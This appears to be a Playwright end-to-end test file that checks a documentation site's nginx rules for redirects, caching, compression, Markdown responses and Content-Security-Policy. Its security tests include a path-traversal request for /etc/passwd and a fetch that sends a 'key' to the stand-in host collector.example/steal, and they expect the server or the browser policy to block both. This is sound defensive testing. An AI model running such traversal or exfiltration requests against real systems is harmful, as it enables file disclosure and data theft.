// The hosting rules as a reader's browser meets them: every browser test runs against nginx with the
// generated configuration (npm run preview); these tests check what only the server decides.
import {existsSync, readFileSync} from 'node:fs';
import path from 'node:path';
import {brotliDecompressSync, gunzipSync} from 'node:zlib';
import {readSite} from '../../src/site/manifest';
import {COMPRESSIBLE, MIN_COMPRESSIBLE_BYTES} from '../../src/hosting/precompress';
import {test, expect, open, BUILD_DIR, escapeRegExp, IOS_OLDEST} from './helpers';
import routesFixture from '../fixtures/routes.json';

type Rules = {
  headers: Record<string, string>;
  markdown: {route: string; file: string}[];
};
/** What the build generated for the host (deploy/rules.json, written by src/hosting/step.ts). */
const rules = JSON.parse(readFileSync('deploy/rules.json', 'utf8')) as Rules;

const noRedirect = {maxRedirects: 0} as const;

test.describe('redirects on the server', () => {
  // The section roots of the spec (tests/fixtures/routes.json), each with and without a trailing slash.
  for (const [from, to] of Object.entries(routesFixture.sectionRoots)) {
    for (const path of [from, `${from}/`].filter((candidate) => candidate !== to)) {
      test(`${path} → ${to} (301)`, async ({request}) => {
        const response = await request.get(path, noRedirect);
        expect(response.status()).toBe(301);
        expect(response.headers()['location']).toBe(to);
      });
    }
  }

  test('a trailing .html or /index.html is stripped permanently, the query kept', async ({request}) => {
    for (const [path, to] of [
      ['/docs/faq.html', '/docs/faq'],
      ['/docs/faq/index.html', '/docs/faq'],
      ['/ios/2.2/introduction.html?x=1', '/ios/2.2/introduction?x=1'],
      ['/index.html', '/'],
    ]) {
      const response = await request.get(path, noRedirect);
      expect(response.status(), path).toBe(301);
      expect(response.headers()['location'], path).toBe(to);
    }
  });

  test('one canonical trailing-slash form: a page with a trailing slash redirects to it', async ({request}) => {
    const response = await request.get('/docs/faq/', noRedirect);
    expect(response.status()).toBe(301);
    expect(response.headers()['location']).toBe('/docs/faq');
  });

  test('a section root opens its introduction in the browser with no client redirect page', async ({page}) => {
    const response = await open(page, '/ios/2.2');
    expect(response?.request().redirectedFrom()?.url()).toMatch(/\/ios\/2\.2$/);
    expect(new URL(page.url()).pathname).toBe('/ios/2.2/introduction');
  });
});

test.describe('not found', () => {
  test('an unknown path is a 404 with the branded not-found page', async ({page, request}) => {
    const response = await request.get('/docs/no-such-page');
    expect(response.status()).toBe(404);
    expect(response.headers()['content-type']).toContain('text/html');
    await open(page, '/docs/no-such-page');
    await expect(page.getByRole('heading', {level: 1})).toContainText(/not found/i);
    await expect(page.locator('nav.navbar')).toBeVisible();
  });

  test('a path that climbs out of the site is refused; a very long path is not found, not an error', async ({
    request,
  }) => {
    const climb = await request.get('/docs/%2e%2e/%2e%2e/%2e%2e/etc/passwd', noRedirect);
    expect([400, 404]).toContain(climb.status());
    expect(await climb.text()).not.toContain('root:');
    const long = await request.get(`/docs/${'a'.repeat(3000)}`, noRedirect);
    expect([404, 414]).toContain(long.status());
  });
});

test.describe('caching', () => {
  test('hashed assets are immutable for a year; HTML and unhashed files revalidate', async ({page, request}) => {
    const assets: string[] = [];
    page.on('response', (response) => {
      if (new URL(response.url()).pathname.startsWith('/assets/')) assets.push(response.url());
    });
    const html = await open(page, '/docs/faq');
    expect(html?.headers()['cache-control']).toBe('no-cache');
    expect(html?.headers()['etag'] ?? html?.headers()['last-modified']).toBeTruthy();
    expect(assets.length).toBeGreaterThan(0);
    for (const asset of assets.slice(0, 5)) {
      const response = await request.get(asset);
      expect(response.headers()['cache-control'], asset).toBe('public, max-age=31536000, immutable');
    }
    // The service worker script and the offline manifests too: a reader never keeps an old worker
    // or an old list of what to save.
    for (const path of [
      '/llms.txt',
      '/docs/faq.md',
      '/sitemap.xml',
      '/api/openapi.yaml',
      '/sw.js',
      '/offline/index.json',
    ]) {
      const response = await request.get(path);
      expect(response.status(), path).toBe(200);
      expect(response.headers()['cache-control'], path).toBe('no-cache');
    }
  });

  test('a page revalidates to 304 with its ETag', async ({request}) => {
    const first = await request.get('/docs/faq');
    const etag = first.headers()['etag'];
    expect(etag).toBeTruthy();
    const again = await request.get('/docs/faq', {headers: {'If-None-Match': etag}});
    expect(again.status()).toBe(304);
  });
});

test.describe("Pagefind's search bundles (src/plugins/search)", () => {
  test('hashed chunks are immutable, named files revalidate; chunks and WebAssembly go as Pagefind wrote them', async ({
    playwright,
  }) => {
    const site = readSite(BUILD_DIR);
    const context = await playwright.request.newContext({
      baseURL: test.info().project.use.baseURL,
      extraHTTPHeaders: {'Accept-Encoding': 'br, gzip'},
    });
    const first = (pattern: RegExp) => `/${site.files.find((file) => pattern.test(file))}`;
    for (const bundle of ['/pagefind/', `/ios/${IOS_OLDEST}/pagefind/`]) {
      const inBundle = (name: string) => new RegExp(`^${escapeRegExp(bundle.slice(1))}${name}$`);
      // Pagefind's own gzip data, which its script inflates: no Content-Encoding, never compressed again.
      for (const [path, cache] of [
        [first(inBundle('index/[^/]+\\.pf_index')), 'public, max-age=31536000, immutable'],
        [first(inBundle('fragment/[^/]+\\.pf_fragment')), 'public, max-age=31536000, immutable'],
        [`${bundle}wasm.en.pagefind`, 'no-cache'],
        [first(inBundle('pagefind\\.[^/]+\\.pf_meta')), 'no-cache'],
      ] as const) {
        const response = await context.fetch(path);
        expect(response.status(), path).toBe(200);
        expect(response.headers()['content-type'], path).toBe('application/octet-stream');
        expect(response.headers()['content-encoding'], path).toBeUndefined();
        expect(response.headers()['cache-control'], path).toBe(cache);
        expect((await response.body()).subarray(0, 2), `${path} is gzip data`).toEqual(Buffer.from([0x1f, 0x8b]));
      }
      // Its script, entry and the site's table of pages: text, precompressed, revalidated.
      for (const [name, type] of [
        ['pagefind.js', 'application/javascript'],
        ['pagefind-entry.json', 'application/json'],
        ['skypath-pages.json', 'application/json'],
      ] as const) {
        const response = await context.fetch(`${bundle}${name}`);
        expect(response.status(), name).toBe(200);
        expect(response.headers()['content-type'], name).toContain(type);
        expect(response.headers()['cache-control'], name).toBe('no-cache');
        if (name !== 'pagefind-entry.json') expect(response.headers()['content-encoding'], name).toBe('br');
      }
    }
    await context.dispose();
  });
});

test.describe('precompression', () => {
  for (const [accept, encoding] of [
    ['br, gzip', 'br'],
    ['gzip', 'gzip'],
    ['identity', undefined],
  ] as const) {
    test(`Accept-Encoding: ${accept} gets ${encoding ?? 'the file as it is'}`, async ({playwright}) => {
      // A request context that does not decode, so the encoding sent is the one seen.
      const context = await playwright.request.newContext({
        baseURL: test.info().project.use.baseURL,
        extraHTTPHeaders: {'Accept-Encoding': accept},
      });
      for (const path of ['/docs/faq', '/llms.txt']) {
        const response = await context.fetch(path);
        expect(response.status(), path).toBe(200);
        expect(response.headers()['content-encoding'], path).toBe(encoding);
        expect(response.headers()['vary'], path).toContain('Accept-Encoding');
      }
      await context.dispose();
    });
  }
});

test.describe('Markdown for agents', () => {
  test('Accept: text/markdown gets the page as Markdown; the page varies by Accept', async ({request}) => {
    const {route} = rules.markdown.find(({route}) => route === '/docs/faq') ?? rules.markdown[0];
    const markdown = await request.get(route, {headers: {Accept: 'text/markdown'}});
    expect(markdown.status()).toBe(200);
    expect(markdown.headers()['content-type']).toContain('text/markdown');
    expect(await markdown.text()).toMatch(/^# /m);
    const html = await request.get(route);
    expect(html.headers()['content-type']).toContain('text/html');
    expect(html.headers()['vary']).toContain('Accept');
  });
});

test.describe('Content-Security-Policy', () => {
  test('every response carries the security headers, errors included', async ({request}) => {
    for (const path of ['/', '/docs/faq', '/docs/no-such-page', '/assets/css/missing.css']) {
      const headers = (await request.get(path, noRedirect)).headers();
      for (const [name, value] of Object.entries(rules.headers)) expect(headers[name.toLowerCase()], path).toBe(value);
      expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*'unsafe-inline'/);
    }
  });
});

test.describe('Content-Security-Policy in the browser', () => {
  // Every other browser test fails on any policy violation (tests/e2e/helpers.ts); the explorer's
  // request to the API host the reader chose is api-reference.spec.ts. Here the policy must stop things.
  test.use({allowedCspViolations: /collector\.example|inline script/});

  test('a script cannot send data to another host or run injected inline code', async ({page}) => {
    await open(page, '/api/reference/get-corridor-data-geo-fencing');
    const violations = page.evaluate(
      () =>
        new Promise<string[]>((resolve) => {
          const seen: string[] = [];
          document.addEventListener('securitypolicyviolation', (event) => {
            seen.push(`${event.effectiveDirective} ${event.blockedURI}`);
            if (seen.length === 2) resolve(seen);
          });
        }),
    );
    const sent = await page.evaluate(() =>
      fetch('https://collector.example/steal', {method: 'POST', body: 'key'}).then(
        () => 'sent',
        () => 'blocked',
      ),
    );
    expect(sent).toBe('blocked');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'window.injected = true;';
      document.body.append(script);
    });
    expect(await page.evaluate(() => (window as unknown as {injected?: boolean}).injected)).toBeUndefined();
    expect(await violations).toEqual(['connect-src https://collector.example/steal', 'script-src-elem inline']);
  });
});

test.describe('the build as the pipeline leaves it (src/plugins/site-pipeline)', () => {
  // Precompression is the pipeline's last step; what any plugin or step wrote after it (a sitemap,
  // a feed, a search bundle, a card page) would be served stale or uncompressed.
  test('every text file has .br and .gz copies of what it holds now', async () => {
    const site = readSite(BUILD_DIR);
    const stale: string[] = [];
    let checked = 0;
    for (const file of site.files.filter((name) => COMPRESSIBLE.test(name))) {
      const body = await site.read(file);
      if (body.length < MIN_COMPRESSIBLE_BYTES) continue;
      checked++;
      for (const [ext, decode] of [
        ['.br', brotliDecompressSync],
        ['.gz', gunzipSync],
      ] as const) {
        const copy = await site.read(file + ext).catch(() => undefined);
        if (copy === undefined) continue; // not written when it would not be smaller
        if (!decode(copy).equals(body)) stale.push(file + ext);
      }
      if (!existsSync(path.join(BUILD_DIR, `${file}.br`))) stale.push(`${file}.br (missing)`);
    }
    expect(checked).toBeGreaterThan(300);
    expect(stale).toEqual([]);
    for (const file of ['sitemap.xml', 'blog/rss.xml', 'pagefind/pagefind.js', 'llms.txt', 'site.json']) {
      expect(site.files.includes(file) || file === 'site.json', file).toBe(true);
      expect(existsSync(path.join(BUILD_DIR, `${file}.br`)), `${file}.br`).toBe(true);
    }
  });
});
